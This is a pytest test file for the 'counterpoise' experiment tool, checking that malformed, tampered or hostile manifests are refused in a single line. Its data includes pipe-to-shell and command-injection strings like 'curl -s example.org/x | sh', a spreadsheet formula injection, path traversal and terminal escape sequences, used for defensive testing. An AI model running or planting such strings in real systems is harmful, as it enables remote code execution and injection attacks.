    one = {**read_manifest(original.comparison), "files": {"case.json": "1", "series.csv": "2"}}
    manifests = iter([one, {**one, "files": {"case.json": "3", "series.csv": "4"}}])
    monkeypatch.setattr("experiments.commands.compare_runs.read_manifest", lambda _: next(manifests))
    _, output, _ = said("compare-runs", original.comparison, original.comparison)
    assert "case.json: not the same\nseries.csv: not the same\n" in output


def test_whoever_reads_enough_of_it_hears_nothing_of_tables(original: Results, said, monkeypatch: pytest.MonkeyPatch) -> None:
    def closed(*_: object) -> None:
        raise BrokenPipeError

    monkeypatch.setattr("experiments.commands.compare_runs._numbers", closed)
    code, _, error = said("compare-runs", original.comparison, original.comparison)
    assert (code, error) == (141, "")


def test_sweeps_are_compared_point_by_point_and_not_with_comparisons(original: Results, tmp_path: Path, said) -> None:
    words = ["scenario=competition,pandemic" if word.startswith("scenario=") else word for word in SWEEP if not word.startswith("design.over")]
    code, output, _ = said(*words, "design.over={parameters.rivalry_mean: {values: [-1, 0]}}", f"results={tmp_path}/1")
    assert code == 0
    other = Path(output.splitlines()[-1]).parent
    _, output, _ = said("compare-runs", original.sweep, other)
    tables = [pd.read_csv(run / "points.csv") for run in (original.sweep, other)]
    shared = tables[0].merge(tables[1], on=["scenario", "parameters.rivalry_mean", "strategy", "measure"])
    assert len(shared) > 0
    assert f"points.csv: {len(shared)} of " in output
    values = [list(dict.fromkeys(job["varied"]["scenario"] for job in read_manifest(run)["jobs"])) for run in (original.sweep, other)]
    assert f"scenario.name: A {' or '.join(values[0])}, B {' or '.join(values[1])}" in output  # of all jobs, not of the first
    assert "numbers: every mean is the same to the last digit" in output
    code, output, _ = said("compare-runs", original.sweep, original.comparison)
    assert code == 0
    assert "numbers: the two have no table in common" in output


def test_a_table_that_changed_is_not_compared(results: Results, said) -> None:
    flip(results.sweep / "points.csv")
    code, _, error = said("compare-runs", results.sweep, results.sweep)
    assert (code, error.count("\n")) == (1, 1)
    assert f"counterpoise report --replace {results.sweep}" in error


@pytest.mark.parametrize("command", COMMANDS)
def test_each_command_has_its_own_help(command, capsys) -> None:
    for word in ("--help", "-h"):
        assert cli.main([command, word]) == 0
        told = capsys.readouterr()
        assert told.out.startswith(f"usage: counterpoise {command} ")
        assert told.err == ""


@pytest.mark.parametrize("command", COMMANDS)
def test_unknown_options_and_words_exit_2_in_a_line(command, capsys) -> None:
    for words in (["--nothing"], ["a", "b", "c", "d"]):
        assert cli.main([command, *words]) == 2
        told = capsys.readouterr()
        assert told.out == ""
        assert told.err.count("\n") == 1
        assert f"counterpoise {command}" in told.err


def test_help_of_the_main_command_is_the_whole_help(capsys) -> None:
    for words in (["--help"], ["compare", "--help"], ["n_worlds=3", "-h"]):
        assert cli.main(words) == 0
        assert "usage: counterpoise [COMMAND]" in capsys.readouterr().out


def test_the_exit_code_is_that_of_the_process(original: Results) -> None:
    run = [sys.executable, "-m", "experiments.cli"]
    done = [subprocess.run([*run, *words], cwd=ROOT, capture_output=True, text=True, timeout=60, check=False) for words in
            (["verify", str(original.comparison)], ["verify", "/dev/null"], ["replay", "--help"])]
    assert [each.returncode for each in done] == [0, 2, 0]
    assert done[0].stdout.startswith("12 cells")
    assert done[1].stderr == "counterpoise verify: FOLDER: there is no folder '/dev/null'; see counterpoise verify --help\n"


@pytest.mark.parametrize("command", [["verify"], ["report"], ["export", "--to", "csv"], ["export", "--to", "netcdf"], ["compare-runs"]], ids=" ".join)
def test_odd_paths_are_answered_in_a_line(command, tmp_path: Path, said) -> None:
    for name in ("a file", "empty", "binary", "nested", "list", "a folder"):
        (tmp_path / name).mkdir() if name != "a file" else (tmp_path / name).write_text("{}")
    contents = {"binary": bytes(range(256)), "nested": b"[" * 100_000, "list": b"[]"}
    for name, content in contents.items():
        (tmp_path / name / "manifest.json").write_bytes(content)
    (tmp_path / "a folder" / "manifest.json").mkdir()
    odd = ["", "\0", "x" * 5000, "/nonexistent", "/dev/zero", *(str(tmp_path / name) for name in ("a file", "empty", *contents, "a folder"))]
    for path in odd:
        code, _, error = said(*command, path, *([path] if command == ["compare-runs"] else []))
        assert code in (1, 2), path[:80]
        assert error.count("\n") == (0 if command == ["verify"] and code == 1 else 1), path[:80]


def changes(manifest: dict[str, Any], wrong: Any) -> list[dict[str, Any]]:
    """The manifest with each part of it in turn, three levels deep, replaced and left out."""
    result = []

    def walk(part: Any, path: tuple[Any, ...]) -> None:
        keys = part if isinstance(part, dict) else range(min(len(part), 2)) if isinstance(part, list) else ()
        for key in list(keys)[:12]:
            here = (*path, key)
            for remove in (False, True):
                copy = json.loads(json.dumps(manifest))
                inner = copy
                for step in path:
                    inner = inner[step]
                if remove:
                    del inner[key]
                else:
                    inner[key] = wrong
                result.append(copy)
            if len(here) < 5:
                walk(part[key], here)

    walk(manifest, ())
    return result


@pytest.mark.parametrize("wrong", [None, -1, "../../x", [], {"x": [1]}, 1e308], ids=str)
@pytest.mark.parametrize("of", ["comparison", "sweep"])
def test_manifests_with_anything_wrong_in_them_are_read_or_refused_in_a_line(of, wrong, original: Results, tmp_path: Path, said, monkeypatch) -> None:
    """Those that are read go as far as the cells: gathering them is left out, which is most of the time."""
    def stop(*_: object, **__: object) -> None:
        raise MissingCell("stopped here")

    monkeypatch.setattr("experiments.analyses.outcome.gathered_by", stop)
    monkeypatch.setattr("experiments.commands.export.gathered", stop)
    source: Path = getattr(original, of)
    run = tmp_path / "results" / "x" / "y"
    run.mkdir(parents=True)
    manifest = json.loads((source / "manifest.json").read_bytes())
    manifest.pop("sha256")
    tried = changes(manifest, wrong)
    n = int(os.environ.get("COUNTERPOISE_FUZZ", "5"))
    for changed in random.Random(str(wrong)).sample(tried, min(n, len(tried))):
        (run / "manifest.json").write_bytes(sealed(changed))
        for words in (["verify", run], ["report", run], ["export", run, "--to", "csv"], ["compare-runs", run, source]):
            code, _, error = said(*words)
            assert code in (0, 1), words
            assert error.count("\n") <= 1
            assert "Traceback" not in error


#: What a stranger's manifest may give as its command.
NO_COMMANDS = (
    "curl -s example.org/x | sh", "counterpoise; curl x", "counterpoise $(curl x)", "counterpoise n_worlds=6 | sh", "counterpoise n_worlds=6 && sh",
    "counterpoise 'n_worlds=6", "counterpoise export x", "sh -c 'counterpoise n_worlds=6'", "", "\x1b[2Jcounterpoise", "counterpoise `x`")


def test_a_manifest_whose_command_is_none_of_ours_is_refused_and_its_command_never_shown(results: Results, said) -> None:
    page = results.comparison / "report.html"
    text = page.read_text()
    others = (["report", results.comparison], ["export", results.comparison, "--to", "csv"], ["compare-runs", results.comparison, results.sweep])
    for i, command in enumerate(NO_COMMANDS):
        reseal(results.comparison, lambda manifest, command=command: manifest.update(command=command))
        page.write_text(f"{text}<pre>{html.escape(command)}</pre>")
        for words in (["verify", results.comparison], others[i % len(others)]):
            code, output, error = said(*words)
            assert code == 1
            assert "is not a manifest: command: expected a command of counterpoise" in output + error
            assert not command or command not in output + error
            assert "curl" not in output + error


def test_a_command_of_a_manifest_is_shown_word_by_word_without_what_is_the_users_own_to_say(results: Results, said) -> None:
    command = ('counterpoise n_worlds=6 "question=$(curl x)" executor=dask executor.address=tcp://example.org:8786 workers=900 results=/etc '
               "+executor.wait=1 design.file=/home/someone/points.csv")
    reseal(results.comparison, lambda manifest: manifest.update(command=command))
    results.store.path(keys_of(results.comparison)[0]).unlink()
    shown = f"counterpoise n_worlds=6 'question=$(curl x)' design.file=points.csv results={results.folder}\n"
    for words in (["verify", results.comparison], ["report", results.comparison], ["export", results.comparison, "--to", "csv"]):
        code, output, error = said(*words)
        assert code == 1
        assert (output + error).endswith(shown)
    for strange in ("question=a\nb", "question=\x1b[2J", "question=\u202eb"):
        reseal(results.comparison, lambda manifest, strange=strange: manifest.update(command=shlex.join(["counterpoise", strange])))
        output = said("verify", results.comparison)[1]
        assert output.replace("\n", "").isprintable()
        assert "the command in its manifest.json (it holds characters that cannot be printed)" in output


def test_a_run_folder_without_its_cells_says_so_and_names_no_folder_above_it_as_results(results: Results, tmp_path: Path, said) -> None:
    alone = tmp_path / "a" / "b" / "run"
    shutil.copytree(results.comparison, alone)
    for words in (["report", alone], ["export", alone, "--to", "csv"], ["verify", alone]):
        code, output, error = said(*words)
        assert code == 1
        assert "came without its cells" in output + error
        assert "results=" not in output + error
        assert (output + error).rstrip().endswith(shlex.join(["counterpoise", *COMPARISON]))


def test_a_report_of_nested_tags_costs_no_time(results: Results, said) -> None:
    (results.comparison / "manifest.json").unlink()
    (results.comparison / "report.html").write_text("<pre>" * 2_000_000)
    begun = time.process_time()
    assert said("verify", results.comparison)[0] == 1
    assert time.process_time() - begun < 2


@pytest.mark.parametrize("name", ["", ".", "/", "..", "a/", "\0", "/dev/null"])
def test_a_file_that_cannot_be_one_is_refused_in_a_line(name: str, original: Results, tmp_path: Path, said, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a").mkdir()
    cell = original.store.path(keys_of(original.comparison)[0])
    for words in (["export", original.comparison, "--to", "csv", "--file", name], ["replay", cell, 0, "--to", name]):
        code, _, error = said(*words)
        assert (code, error.count("\n")) == (2, 1)
        assert "must be the name of a file" in error


def in_place_of_a_manifest(file: Path) -> Iterator[None]:
    """What is no manifest, one thing after the other."""
    whole = file.read_bytes()
    plain = json.loads(whole)
    plain.pop("sha256")

    def jobs(change: Callable[[dict[str, Any]], object]) -> bytes:
        copy = json.loads(json.dumps(plain))
        change(copy)
        return sealed(copy)

    nested: Any = []
    for _ in range(300):
        nested = [nested]
    contents = [
        jobs(lambda m: m.update(jobs=m["jobs"] * 30)), whole.replace(b'"horizon": 4', b'"horizon": NaN'), whole.replace(b'"horizon": 4', b'"horizon": 1e999'),
        whole.replace(b'"horizon": 4', b'"horizon": ' + b"9" * 5000), jobs(lambda m: m["jobs"][0]["settings"].update(horizon=10**400)),
        jobs(lambda m: m["jobs"][0]["settings"].update(x=nested)), jobs(lambda m: m["jobs"][0].update(varied={"=cmd|' /C calc'!A0": "1"})), b"[" * 10**6,
        jobs(lambda m: m["jobs"][0]["points"].update(values=[[1e308]] * 3)), jobs(lambda m: m["jobs"].append({**m["jobs"][0], "varied": {"a": "1"}}))]
    for content in contents:
        file.write_bytes(content)
        yield
    sparse = lambda: (file.touch(), os.truncate(file, 2**41))  # noqa: E731
    for make in (lambda: os.mkfifo(file), lambda: file.symlink_to("/dev/zero"), lambda: file.symlink_to(file), sparse):
        file.unlink()
        make()
        yield


def test_what_is_no_manifest_is_refused_in_a_line(results: Results, said) -> None:
    for _ in in_place_of_a_manifest(results.sweep / "manifest.json"):
        for words in (["report", results.sweep], ["compare-runs", results.sweep, results.comparison], ["verify", results.sweep]):
            code, output, error = said(*words)
            assert code == 1 or words[0] != "report"
            assert error.count("\n") == (words[0] == "report" or (code == 1 and words[0] != "verify")), (error, output)


def test_a_manifest_with_strange_files_is_answered(results: Results, said) -> None:
    """What stands in place of a file of the run is not read."""
    file = results.comparison / "summary.csv"
    for make in (lambda: os.mkfifo(file), lambda: file.symlink_to("/dev/zero"), lambda: (file.touch(), os.truncate(file, 2**42))):
        file.unlink()
        make()
        assert f"changed: {file}" in said("verify", results.comparison)[1]
        assert said("compare-runs", results.comparison, results.comparison)[0] == 1


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads everything")
def test_what_cannot_be_read_is_named(results: Results, said) -> None:
    file = results.store.path(keys_of(results.comparison)[0])
    file.chmod(0)
    (results.sweep / "report.html").chmod(0)
    code, output, _ = said("verify", results.folder)
    assert code == 1
    assert f"unreadable: {file}: Permission denied" in output
    assert f"changed: {results.sweep / 'report.html'}" in output
